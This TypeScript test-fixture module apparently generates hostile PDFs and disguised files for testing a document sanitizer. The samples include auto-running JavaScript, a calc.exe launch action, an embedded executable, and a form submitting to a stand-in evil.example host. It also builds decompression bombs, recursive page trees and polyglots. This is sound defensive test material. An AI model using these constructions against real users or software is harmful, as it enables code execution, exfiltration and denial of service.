import { deflateSync } from 'node:zlib';
import { PDFDocument } from '@cantoo/pdf-lib';
import { zeros } from './bombs.ts';

type Part = string | Buffer;

export const stream = (entries: string, data: Part): Buffer =>
  Buffer.concat([
    Buffer.from(`<< ${entries} /Length ${Buffer.byteLength(data)} >>\nstream\n`),
    Buffer.from(data),
    Buffer.from('\nendstream'),
  ]);

/** A PDF of these objects, counted from 1; the first is its catalog. */
export function pdfOf(objects: Part[], trailer = ''): Buffer {
  const parts: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const offsets: number[] = [];
  let length = parts[0]?.length ?? 0;
  const add = (part: Part) => {
    const bytes = Buffer.from(part);
    parts.push(bytes);
    length += bytes.length;
  };
  objects.forEach((object, at) => {
    offsets.push(length);
    add(`${at + 1} 0 obj\n`);
    add(object);
    add('\nendobj\n');
  });
  const start = length;
  add(`xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`);
  for (const offset of offsets) add(`${String(offset).padStart(10, '0')} 00000 n \n`);
  add(`trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\n`);
  add(`startxref\n${start}\n%%EOF\n`);
  return Buffer.concat(parts);
}

const text = stream('', 'BT /F1 20 Tf 20 60 Td (harmless) Tj ET');
const font = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>';
const box = '/MediaBox [0 0 300 100]';

/** One page of "harmless" words: 1 catalog, 2 pages, 3 page, 4 its content, 5 its font. */
export const onePage = (
  { catalog = '', page = box, content = text as Part, resources = '', trailer = '' },
  ...more: Part[]
): Buffer =>
  pdfOf(
    [
      `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
      '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
      `<< /Type /Page /Parent 2 0 R /Contents 4 0 R
       /Resources << /Font << /F1 5 0 R >> ${resources} >> ${page} >>`,
      content,
      font,
      ...more,
    ],
    trailer,
  );

const script = '<< /S /JavaScript /JS (app.alert\\(1\\)) >>';
const annotation = (entries: string) => `<< /Type /Annot /Rect [0 0 90 90] ${entries} >>`;
const annotated = (...entries: string[]) =>
  onePage(
    { page: `${box} /Annots [${entries.map((_, at) => `${6 + at} 0 R`).join(' ')}]` },
    ...entries.map(annotation),
  );

/** What runs, asks, sends or hides: it can be looked at, and nothing of it stays in a copy. */
export const activePdfs: Record<string, () => Buffer> = {
  'script at the start': () => onePage({ catalog: `/OpenAction ${script}` }),
  'script in the names': () =>
    onePage({ catalog: `/Names << /JavaScript << /Names [(a) ${script}] >> >>` }),
  'script under another spelling': () =>
    onePage({ catalog: '/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>' }),
  'script when a page opens': () => onePage({ page: `${box} /AA << /O ${script} >>` }),
  'program to launch': () =>
    onePage({ catalog: '/OpenAction << /S /Launch /Win << /F (calc.exe) >> >>' }),
  'file inside': () =>
    onePage(
      { catalog: '/Names << /EmbeddedFiles << /Names [(evil.exe) 6 0 R] >> >> /AF [6 0 R]' },
      '<< /Type /Filespec /F (evil.exe) /EF << /F 7 0 R >> >>',
      stream('/Type /EmbeddedFile', 'MZ payload'),
    ),
  'form that sends itself': () =>
    onePage(
      { catalog: '/AcroForm << /Fields [6 0 R] >>', page: `${box} /Annots [6 0 R]` },
      annotation(`/Subtype /Widget /FT /Btn /T (b) /Ff 65536
        /A << /S /SubmitForm /F << /FS /URL /F (http://evil.example/) >> >>
        /AA << /E ${script} /Fo ${script} >>`),
    ),
  'form after XFA': () =>
    onePage(
      { catalog: '/AcroForm << /Fields [] /XFA 6 0 R >>' },
      stream('', '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>evil</script></xdp:xdp>'),
    ),
  'links out of the page': () =>
    annotated(
      '/Subtype /Link /A << /S /URI /URI (javascript:evil) >>',
      '/Subtype /Link /A << /S /GoToR /F (\\\\\\\\evil\\\\share) /D [0 /Fit] >>',
      '/Subtype /Link /PA << /S /URI /URI (http://evil.example/) >>',
      `/Subtype /Stamp /A ${script} /AA << /U ${script} >> /Popup 6 0 R`,
    ),
  'things that play and carry': () =>
    annotated(
      ...['FileAttachment /FS (evil.exe)', 'RichMedia', 'Screen', '3D', 'Movie', 'Sound'].map(
        (kind) => `/Subtype /${kind} /A << /S /Rendition /JS (evil) >>`,
      ),
    ),
  'PostScript and other files behind a picture': () =>
    onePage(
      {
        resources: '/XObject << /X1 6 0 R /X2 7 0 R >>',
        content: stream('', '/X1 Do /X2 Do BT /F1 20 Tf 20 60 Td (harmless) Tj ET'),
      },
      stream('/Type /XObject /Subtype /PS', 'evil'),
      stream(
        '/Type /XObject /Subtype /Image /Width 1 /Height 1 /ColorSpace /DeviceGray ' +
          '/BitsPerComponent 8 /OPI << /F (evil.tif) >> /Alternates [7 0 R] /Metadata 6 0 R',
        'x',
      ),
    ),
};

const picture = (width: number, height: number, data: Buffer, filters = '/FlateDecode') =>
  onePage(
    {
      resources: '/XObject << /X1 6 0 R >>',
      content: stream('', '300 0 0 100 0 0 cm /X1 Do'),
    },
    stream(
      `/Type /XObject /Subtype /Image /Width ${width} /Height ${height} /ColorSpace /DeviceRGB ` +
        `/BitsPerComponent 8 /Filter ${filters}`,
      data,
    ),
  );

async function locked(): Promise<Uint8Array> {
  const pdf = await PDFDocument.load(onePage({}));
  pdf.encrypt({ userPassword: 'secret', ownerPassword: 'other' });
  return pdf.save();
}

const kids = (count: number) => `[${'3 0 R '.repeat(count)}]`;
const tree = (pages: string) =>
  pdfOf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    pages,
    `<< /Type /Page /Parent 2 0 R ${box} /Contents 4 0 R >>`,
    text,
  ]);

/** What is built to stop, to fill or to fool whoever reads it. */
export const brokenPdfs: Record<string, () => Buffer | Promise<Uint8Array>> = {
  'a password': locked,
  '100,000 pages': () => tree(`<< /Type /Pages /Kids ${kids(100_000)} /Count 100000 >>`),
  'far more pages than it has': () => tree('<< /Type /Pages /Kids [3 0 R] /Count 2147483647 >>'),
  'a page tree that is its own child': () => tree('<< /Type /Pages /Kids [2 0 R] /Count 400 >>'),
  'a page tree a hundred thousand deep': () =>
    pdfOf([
      '<< /Type /Catalog /Pages 2 0 R >>',
      ...Array.from(
        { length: 100_000 },
        (_, at) => `<< /Type /Pages /Kids [${at + 3} 0 R] /Count 1 >>`,
      ),
      `<< /Type /Page ${box} >>`,
    ]),
  'a page as large as a country': () => onePage({ page: '/MediaBox [0 0 1e9 1e9]' }),
  'a page of no size': () => onePage({ page: '/MediaBox [9 9 -1e38 nan]' }),
  'a directory that goes on in itself': () => {
    const once = onePage({}).toString('latin1');
    const start = /startxref\n(\d+)/.exec(once)?.[1] ?? '0';
    return Buffer.from(once.replace('/Root', `/Prev ${start} /Root`), 'latin1');
  },
  'objects packed from a gigabyte': () =>
    onePage(
      { catalog: '/X 7 0 R' },
      stream('/Type /ObjStm /N 1 /First 5 /Filter /FlateDecode', zeros(1_024)),
    ),
  'words packed from a gigabyte': () =>
    onePage({ content: stream('/Filter /FlateDecode', zeros(1_024)) }),
  'words packed twice': () =>
    onePage({
      content: stream('/Filter [/FlateDecode /FlateDecode]', deflateSync(zeros(4_096))),
    }),
  'a thousand filters': () =>
    onePage({ content: stream(`/Filter [${'/ASCIIHexDecode '.repeat(1_000)}]`, '41>') }),
  'a picture of a gigapixel': () => picture(40_000, 40_000, zeros(1_024)),
  'a picture that says so without having it': () => picture(2_000_000_000, 2, zeros(1)),
  'a form that draws itself': () =>
    onePage(
      {
        resources: '/XObject << /X1 6 0 R >>',
        content: stream('', '/X1 Do'),
      },
      stream(
        `/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /X1 6 0 R >> >>`,
        '/X1 Do '.repeat(1_000),
      ),
    ),
  'forms that draw each other two to the thirtieth times': () =>
    onePage(
      { resources: '/XObject << /X 6 0 R >>', content: stream('', '/X Do /X Do') },
      ...Array.from({ length: 30 }, (_, at) =>
        stream(
          `/Type /XObject /Subtype /Form /BBox [0 0 300 100] ` +
            `/Resources << /XObject << /X ${at + 7} 0 R >> >>`,
          '/X Do /X Do',
        ),
      ),
      stream('/Type /XObject /Subtype /Form /BBox [0 0 300 100]', '0 0 9 9 re f'),
    ),
  'a million states': () => onePage({ content: stream('', 'q '.repeat(1_000_000)) }),
  'brackets a million deep': () => onePage({ catalog: `/X ${'['.repeat(1_000_000)}` }),
  'half of it': () => onePage({}).subarray(0, 400),
  'nothing but its name': () => Buffer.from('%PDF-1.7\n'),
};

/** Two files in one: what is kept of them is the paper. */
export const polyglots: Record<string, () => Buffer> = {
  'PDF and HTML': () =>
    Buffer.concat([onePage({}), Buffer.from('<html><script>evil()</script></html>')]),
  'PDF and ZIP': () =>
    Buffer.concat([
      onePage({}),
      Buffer.from('PK\u0003\u0004 evil PK\u0005\u0006'),
      Buffer.alloc(18),
    ]),
};

export const noPapers: Record<string, () => Buffer> = {
  'HTML named .pdf': () => Buffer.from('<!doctype html><script>evil()</script>'),
  'HTML before a PDF': () => Buffer.concat([Buffer.from('<script>evil()</script>\n'), onePage({})]),
  'a picture that is a program': () => Buffer.from('GIF89a/*\0\0\0*/=1;evil()'),
  'SVG with a script': () =>
    Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>evil()</script></svg>'),
  'a program for Windows': () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(500)]),
  'a program for Linux': () => Buffer.concat([Buffer.from('\x7fELF'), Buffer.alloc(500)]),
  'a ZIP file': () => Buffer.from('PK\u0003\u0004'),
  PostScript: () => Buffer.from('%!PS-Adobe-3.0\n(evil) run'),
};
